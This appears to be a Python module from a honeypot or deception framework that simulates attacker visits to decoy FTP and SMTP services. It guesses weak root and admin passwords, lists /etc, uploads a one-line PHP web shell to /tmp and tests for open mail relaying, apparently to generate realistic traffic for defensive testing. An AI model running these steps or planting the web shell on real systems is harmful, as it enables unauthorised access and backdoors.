"""What is done at FTP and SMTP."""

import ftplib
import io
import smtplib
from contextlib import suppress
from email.message import EmailMessage

from decnet.lures.simulator.blocking import blocking
from decnet.lures.simulator.visit import Unreachable, Visit


@blocking
def browse_ftp(visit: Visit) -> None:
    """Come in as anybody, look around, leave something."""
    target = visit.target
    client = ftplib.FTP(timeout=10, source_address=(visit.source, 0))
    try:
        client.connect(target.address, target.port)
        with suppress(ftplib.error_perm):
            client.login("anonymous", "demo@example.com")
            client.retrlines("LIST", lambda line: None)
        with suppress(ftplib.error_perm):
            client.login("root", visit.dice.choice(("root", "123456", "password")))
            client.retrlines("LIST /etc", lambda line: None)
            client.storbinary("STOR /tmp/demo.php", io.BytesIO(b"<?php system($_GET['c']); ?>\n"))
        client.quit()
    except (OSError, EOFError, ftplib.Error) as err:
        raise Unreachable(f"ftp on {target.address}:{target.port}: {err}") from err
    finally:
        client.close()


@blocking
def probe_relay(visit: Visit) -> None:
    """See whether mail for strangers is taken."""
    target = visit.target
    letter = EmailMessage()
    letter["From"], letter["To"] = "probe@example.com", "collector@example.org"
    letter["Subject"] = f"{target.address}:{target.port}"
    letter.set_content("relay test\n")
    try:
        kind = smtplib.SMTP_SSL if target.port % 1000 == 465 else smtplib.SMTP
        with kind(target.address, target.port, timeout=10, source_address=(visit.source, 0)) as client:
            with suppress(smtplib.SMTPAuthenticationError, smtplib.SMTPNotSupportedError):
                client.login("admin", visit.dice.choice(("admin", "letmein")))
            with suppress(smtplib.SMTPRecipientsRefused):
                client.send_message(letter)
    except (OSError, smtplib.SMTPException) as err:
        raise Unreachable(f"smtp on {target.address}:{target.port}: {err}") from err
